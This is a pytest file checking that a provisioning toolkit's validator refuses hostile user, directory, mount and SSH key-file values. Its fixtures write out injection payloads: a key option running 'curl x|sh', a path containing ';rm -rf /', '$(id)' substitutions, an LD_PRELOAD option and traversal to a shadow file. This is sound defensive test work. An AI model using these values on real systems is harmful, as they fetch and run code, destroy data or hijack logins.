"""Hostile and careless values in the host fields `users:`, `directories:` and `mounts:` (issue 13), and in
the public key files `users[].authorized_keys` names: each is refused by `toolkit validate` with exit 2,
file:line (the profile's, or the key file's line at fault), the field and what to do; never a traceback,
never the content of a key file, never a raw control character.

Classes: shell metacharacters, newlines, look-alike Unicode, path traversal and system folders, option
injection in mount options, keys with options (`command=`, `from=`), private keys, weak or broken keys,
ids that clash, owners and groups nobody declared, mounts that would hide each other or format a disk.
"""

from __future__ import annotations

import re

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519, rsa

from tests.unit.hostile.test_semantics import run
from toolkit.cli import main

SECRET = "s3cr3t-Key-Material-42"


def _public(key) -> str:
    return key.public_key().public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode()


ED = _public(ed25519.Ed25519PrivateKey.generate())
ED_BLOB = ED.split()[1]
RSA_1024 = _public(rsa.generate_private_key(public_exponent=65537, key_size=1024))
PRIVATE = ed25519.Ed25519PrivateKey.generate().private_bytes(
    serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, serialization.NoEncryption()).decode()

P = "name: p\n"
ALICE = "users:\n  - name: alice\n    uid: 2001\n"


def keyed(key_text: str) -> dict:
    return {"p.yaml": P + ALICE + "    authorized_keys: [keys/alice.pub]\n", "keys/alice.pub": key_text}


def user_field(text: str) -> dict:
    return {"p.yaml": P + ALICE + text}


def folder(text: str) -> dict:
    return {"p.yaml": P + ALICE + "directories:\n  - path: /data/x\n" + text}


def mount(text: str) -> dict:
    return {"p.yaml": P + "mounts:\n" + text}


# id: ({file: text}, file the error is in, line, field, message fragment)
CASES = {
    # ---------------------------------------------------------------- users
    "user-name-shell": ({"p.yaml": P + "users:\n  - name: \"al;ice\"\n    uid: 2001\n"}, "p.yaml", 3,
                        "users.0.name", "Unix user name"),
    "user-name-newline": ({"p.yaml": P + "users:\n  - name: \"al\\nice\"\n    uid: 2001\n"}, "p.yaml", 3,
                          "users.0.name", "Unix user name"),
    "user-name-lookalike": ({"p.yaml": P + "users:\n  - name: \"al\u0131ce\"\n    uid: 2001\n"}, "p.yaml", 3,
                            "users.0.name", "Unix user name"),
    "user-name-option": ({"p.yaml": P + "users:\n  - name: \"-o\"\n    uid: 2001\n"}, "p.yaml", 3, "users.0.name",
                         "Unix user name"),
    "user-is-image-user": ({"p.yaml": P + "users:\n  - name: dev\n    uid: 2001\n"}, "p.yaml", 3, "users.0.name",
                           "`user.name`"),
    "user-duplicate": ({"p.yaml": P + ALICE + "  - name: alice\n    uid: 2002\n"}, "p.yaml", 5, "users.1.name",
                       "duplicate account 'alice'"),
    "uid-system": ({"p.yaml": P + "users:\n  - name: alice\n    uid: 0\n"}, "p.yaml", 4, "users.0.uid",
                   "greater than or equal to 1000"),
    "uid-text": ({"p.yaml": P + "users:\n  - name: alice\n    uid: \"2001\"\n"}, "p.yaml", 4, "users.0.uid",
                 "expected a valid integer"),
    "uid-image-user": ({"p.yaml": P + "users:\n  - name: alice\n    uid: 1000\n"}, "p.yaml", 4, "users.0.uid",
                       "is user.uid"),
    "uid-twice": ({"p.yaml": P + ALICE + "  - name: bob\n    uid: 2001\n"}, "p.yaml", 6, "users.1.uid",
                  "uid 2001 is taken"),
    "gid-twice": ({"p.yaml": P + ALICE + "  - name: bob\n    uid: 2002\n    gid: 2001\n"}, "p.yaml", 7,
                  "users.1.gid", "group id 2001 is taken"),
    "group-sudo": (user_field("    groups: [gpu, sudo]\n"), "p.yaml", 5, "users.0.groups.1", "use `sudo: true`"),
    "group-root": (user_field("    groups: [root]\n"), "p.yaml", 5, "users.0.groups.0", "root's own group"),
    "group-disk": (user_field("    groups: [disk]\n"), "p.yaml", 5, "users.0.groups.0", "raw disks"),
    "group-metachar": (user_field("    groups: [\"gpu,sudo\"]\n"), "p.yaml", 5, "users.0.groups.0", "Unix user name"),
    "shell-with-args": (user_field("    shell: \"/bin/bash -c id\"\n"), "p.yaml", 5, "users.0.shell",
                        "absolute path"),
    "shell-unknown": (user_field("    shell: /tmp/evil\n"), "p.yaml", 5, "users.0.shell", "not a login shell"),
    "shell-traversal": (user_field("    shell: /bin/../tmp/sh\n"), "p.yaml", 5, "users.0.shell", "'..'"),
    "sudo-text": (user_field("    sudo: \"yes\"\n"), "p.yaml", 5, "users.0.sudo", "valid boolean"),
    "keys-path-newline": (user_field("    authorized_keys: [\"keys/a\\n.pub\"]\n"), "p.yaml", 5,
                          "users.0.authorized_keys.0", "file path"),
    "keys-missing-file": (user_field("    authorized_keys: [keys/none.pub]\n"), "p.yaml", 5,
                          "users.0.authorized_keys.0", "not found"),
    # ---------------------------------------------------------------- the key files
    "key-command-option": (keyed(f"# laptop\ncommand=\"/bin/sh -c 'curl x|sh'\" {ED} a@b\n"), "keys/alice.pub", 2,
                           "users.0.authorized_keys.0", "options before it"),
    "key-from-option": (keyed(f"{ED} ok\nfrom=\"10.0.0.1\",no-pty {ED} x\n"), "keys/alice.pub", 2,
                        "users.0.authorized_keys.0", "command=, from="),
    "key-environment-option": (keyed(f"environment=\"LD_PRELOAD=/tmp/x.so\" {ED}\n"), "keys/alice.pub", 1,
                               "users.0.authorized_keys.0", "options before it"),
    "key-private": (keyed(PRIVATE), "keys/alice.pub", 1, "users.0.authorized_keys.0", "PRIVATE key (not shown)"),
    "key-private-after-public": (keyed(f"{ED}\n\n{PRIVATE}"), "keys/alice.pub", 3, "users.0.authorized_keys.0",
                                 "PRIVATE key"),
    "key-escape-in-comment": (keyed(f"{ED} alice\x1b[31m\n"), "keys/alice.pub", 1, "users.0.authorized_keys.0",
                              "U+001B"),
    "key-bidi-in-comment": (keyed(f"{ED} alice\u202etxt.exe\n"), "keys/alice.pub", 1, "users.0.authorized_keys.0",
                            "U+202E"),
    "key-line-separator": (keyed(f"{ED} a\u2028{ED}\n"), "keys/alice.pub", 1, "users.0.authorized_keys.0",
                           "separator"),
    "key-broken-base64": (keyed(f"ssh-ed25519 {ED_BLOB[:-3]}!!! a\n"), "keys/alice.pub", 1,
                          "users.0.authorized_keys.0", "not valid base64"),
    "key-type-mismatch": (keyed(f"ssh-rsa {ED_BLOB} a\n"), "keys/alice.pub", 1, "users.0.authorized_keys.0",
                          "not a ssh-rsa key"),
    "key-rsa-1024": (keyed(RSA_1024 + " old\n"), "keys/alice.pub", 1, "users.0.authorized_keys.0", "1024 bits"),
    "key-dsa": (keyed("ssh-dss AAAAB3NzaC1kc3M= old\n"), "keys/alice.pub", 1, "users.0.authorized_keys.0",
                "DSA keys"),
    "key-not-a-key": (keyed(f"{SECRET}\n"), "keys/alice.pub", 1, "users.0.authorized_keys.0",
                      "not an OpenSSH public key"),
    "key-empty": (keyed("# nothing here\n\n"), "keys/alice.pub", 1, "users.0.authorized_keys.0", "no public key"),
    "key-traversal-to-shadow": ({"p.yaml": P + ALICE + "    authorized_keys: [keys/../shadow]\n",
                                 "keys/.keep": "", "shadow": f"root:{SECRET}:19000:0:99999:7:::\n"}, "keys/../shadow",
                                1, "users.0.authorized_keys.0", "not an OpenSSH public key"),
    # ---------------------------------------------------------------- directories
    "dir-root": ({"p.yaml": P + "directories:\n  - path: /\n"}, "p.yaml", 3, "directories.0.path", "system folder"),
    "dir-etc": ({"p.yaml": P + "directories:\n  - path: /etc\n"}, "p.yaml", 3, "directories.0.path",
                "operating system"),
    "dir-home-itself": ({"p.yaml": P + "directories:\n  - path: /home/\n"}, "p.yaml", 3, "directories.0.path",
                        "system folder"),
    "dir-usr-local-bin": ({"p.yaml": P + "directories:\n  - path: /usr/local/bin/x\n"}, "p.yaml", 3,
                          "directories.0.path", "searches for programs"),
    "dir-traversal": ({"p.yaml": P + "directories:\n  - path: /data/../etc\n"}, "p.yaml", 3, "directories.0.path",
                      "'..'"),
    "dir-shell": ({"p.yaml": P + "directories:\n  - path: \"/data/x;rm -rf /\"\n"}, "p.yaml", 3,
                  "directories.0.path", "absolute path"),
    "dir-lookalike": ({"p.yaml": P + "directories:\n  - path: \"/d\u0430ta\"\n"}, "p.yaml", 3, "directories.0.path",
                      "absolute path"),
    "dir-relative": ({"p.yaml": P + "directories:\n  - path: data\n"}, "p.yaml", 3, "directories.0.path",
                     "absolute path"),
    "dir-mode-unquoted": (folder("    mode: 2775\n"), "p.yaml", 7, "directories.0.mode", "write the mode in quotes"),
    "dir-mode-yaml-octal": (folder("    mode: 0750\n"), "p.yaml", 7, "directories.0.mode", "quotes: \"0750\""),
    "dir-mode-python-octal": (folder("    mode: 0o755\n"), "p.yaml", 7, "directories.0.mode", "octal digits"),
    "dir-mode-world-writable": (folder("    mode: \"0777\"\n"), "p.yaml", 7, "directories.0.mode", "sticky bit"),
    "dir-mode-setuid": (folder("    mode: \"4755\"\n"), "p.yaml", 7, "directories.0.mode", "setuid"),
    "dir-mode-shell": (folder("    mode: \"755; id\"\n"), "p.yaml", 7, "directories.0.mode", "octal digits"),
    "dir-owner-unknown": (folder("    owner: mallory\n"), "p.yaml", 7, "directories.0.owner",
                          "not an account of this profile"),
    "dir-owner-shell": (folder("    owner: \"root:root\"\n"), "p.yaml", 7, "directories.0.owner", "Unix user name"),
    "dir-group-unknown": (folder("    group: gpu\n"), "p.yaml", 7, "directories.0.group",
                          "not a group of this profile"),
    "dir-duplicate": (folder("  - path: /data/x/\n"), "p.yaml", 7, "directories.1.path", "duplicate folder"),
    # ---------------------------------------------------------------- mounts
    "mount-device-shell": (mount("  - device: \"/dev/sdb; reboot\"\n    path: /data\n    fstype: ext4\n"), "p.yaml",
                           3, "mounts.0.device", "expected UUID="),
    "mount-device-substitution": (mount("  - device: \"UUID=$(id)\"\n    path: /data\n    fstype: ext4\n"), "p.yaml",
                                  3, "mounts.0.device", "expected UUID="),
    "mount-device-space": (mount("  - device: \"LABEL=my data\"\n    path: /data\n    fstype: ext4\n"), "p.yaml", 3,
                           "mounts.0.device", "expected UUID="),
    "mount-device-traversal": (mount("  - device: /dev/../etc/passwd\n    path: /data\n    fstype: ext4\n"),
                               "p.yaml", 3, "mounts.0.device", "expected UUID="),
    "mount-device-url": (mount("  - device: \"http://nas/export\"\n    path: /data\n    fstype: nfs\n"), "p.yaml", 3,
                         "mounts.0.device", "server:/export"),
    "mount-path-root": (mount("  - device: tmpfs\n    path: /\n    fstype: tmpfs\n"), "p.yaml", 4, "mounts.0.path",
                        "keeps itself"),
    "mount-path-etc": (mount("  - device: tmpfs\n    path: /etc/ssh\n    fstype: tmpfs\n"), "p.yaml", 4,
                       "mounts.0.path", "keeps itself"),
    "mount-path-usr": (mount("  - device: tmpfs\n    path: /usr\n    fstype: tmpfs\n"), "p.yaml", 4, "mounts.0.path",
                       "keeps itself"),
    "mount-fstype-unknown": (mount("  - device: /dev/sdb\n    path: /data\n    fstype: zfs\n"), "p.yaml", 5,
                             "mounts.0.fstype", "expected 'ext4'"),
    "mount-option-comma": (mount("  - device: /dev/sdb\n    path: /data\n    fstype: ext4\n"
                                 "    options: [\"noatime,suid,exec\"]\n"), "p.yaml", 6, "mounts.0.options.0",
                           "one option per list item"),
    "mount-option-newline": (mount("  - device: /dev/sdb\n    path: /data\n    fstype: ext4\n"
                                   "    options: [\"rw 0 0\\nUUID=x /etc ext4\"]\n"), "p.yaml", 6,
                             "mounts.0.options.0", "expected a mount option"),
    "mount-option-substitution": (mount("  - device: /dev/sdb\n    path: /data\n    fstype: ext4\n"
                                        "    options: [\"x-systemd.requires=$(id)\"]\n"), "p.yaml", 6,
                                  "mounts.0.options.0", "expected a mount option"),
    "mount-option-remount": (mount("  - device: /dev/sdb\n    path: /data\n    fstype: ext4\n"
                                   "    options: [remount]\n"), "p.yaml", 6, "mounts.0.options.0", "an action"),
    "mount-format-uuid": (mount("  - device: UUID=0a1b-2c3d\n    path: /data\n    fstype: ext4\n    format: true\n"),
                          "p.yaml", 6, "mounts.0.format", "a /dev/ path"),
    "mount-format-nfs": (mount("  - device: nas:/export\n    path: /data\n    fstype: nfs\n    format: true\n"),
                         "p.yaml", 6, "mounts.0.format", "a /dev/ path"),
    "mount-format-text": (mount("  - device: /dev/sdb\n    path: /data\n    fstype: ext4\n    format: \"yes\"\n"),
                          "p.yaml", 6, "mounts.0.format", "valid boolean"),
    "mount-device-fstype": (mount("  - device: /dev/sdb\n    path: /data\n    fstype: nfs\n"), "p.yaml", 5,
                            "mounts.0.fstype", "needs server:/export"),
    "mount-nested-order": (mount("  - device: tmpfs\n    path: /data/scratch\n    fstype: tmpfs\n"
                                 "  - device: /dev/sdb\n    path: /data\n    fstype: ext4\n"), "p.yaml", 4,
                           "mounts.0.path", "mounted after it"),
    "mount-twice-at-path": (mount("  - device: /dev/sdb\n    path: /data\n    fstype: ext4\n"
                                  "  - device: /dev/sdc\n    path: /data/\n    fstype: ext4\n"), "p.yaml", 7,
                            "mounts.1.path", "two mounts at /data"),
    "mount-device-twice": (mount("  - device: /dev/sdb\n    path: /data\n    fstype: ext4\n"
                                 "  - device: /dev/sdb\n    path: /srv/x\n    fstype: ext4\n"), "p.yaml", 6,
                           "mounts.1.device", "mounted already"),
}


def write(tmp_path, files: dict) -> None:
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text, encoding="utf-8")


@pytest.mark.parametrize("case", list(CASES), ids=list(CASES))
def test_refused_with_location(case, tmp_path, capsys, monkeypatch):
    files, where, line, field, fragment = CASES[case]
    write(tmp_path, files)
    monkeypatch.chdir(tmp_path)
    code, output = run(["validate", "p.yaml"], capsys)
    assert code == 2, output
    assert "Traceback" not in output
    assert re.search(rf"^  {re.escape(where)}:{line}:\d+: {re.escape(field)}: ", output, re.M), output
    assert fragment in output, output
    assert SECRET not in output and ED_BLOB not in output and "OPENSSH PRIVATE" not in output
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u2028\u202e]", output), repr(output)


ACCEPTED = {
    "team": (P + "users:\n  - name: alice\n    uid: 2001\n    groups: [gpu, docker]\n    sudo: true\n"
             "    authorized_keys: [keys/alice.pub]\n  - name: bob\n    uid: 2002\n    gid: 3002\n    groups: [gpu, alice]\n"
             "    shell: /usr/bin/zsh\ndirectories:\n  - path: /data/shared\n    owner: alice\n    group: gpu\n"
             "    mode: \"2775\"\n  - path: /srv/scratch\n    mode: \"1777\"\n  - path: /home/alice/models\n"
             "    owner: alice\n    group: users\nmounts:\n  - device: UUID=0a1b2c3d-1111-2222-3333-444455556666\n"
             "    path: /data\n    fstype: ext4\n    options: [noatime, nofail]\n  - device: nas.example.com:/export/ml\n"
             "    path: /mnt/ml\n    fstype: nfs4\n    options: [ro, x-systemd.automount, vers=4.2]\n"
             "  - device: /dev/disk/by-id/nvme-Samsung_SSD_990_PRO_2TB_S123\n    path: /scratch\n    fstype: xfs\n"
             "    format: true\n  - device: tmpfs\n    path: /data/tmp\n    fstype: tmpfs\n    options: [size=8g]\n"),
    "key-file-with-comments-and-blank-lines": (P + ALICE + "    authorized_keys: [keys/alice.pub, keys/alice.pub]\n"),
}


@pytest.mark.parametrize("case", list(ACCEPTED), ids=list(ACCEPTED))
def test_ordinary_values_still_pass(case, tmp_path, capsys, monkeypatch):
    write(tmp_path, {"p.yaml": ACCEPTED[case], "keys/alice.pub": f"# alice's laptop\n\n{ED} alice@laptop\r\n"})
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as exc:
        main(["validate", "p.yaml"])
    out = capsys.readouterr()
    assert exc.value.code in (0, None), out.err
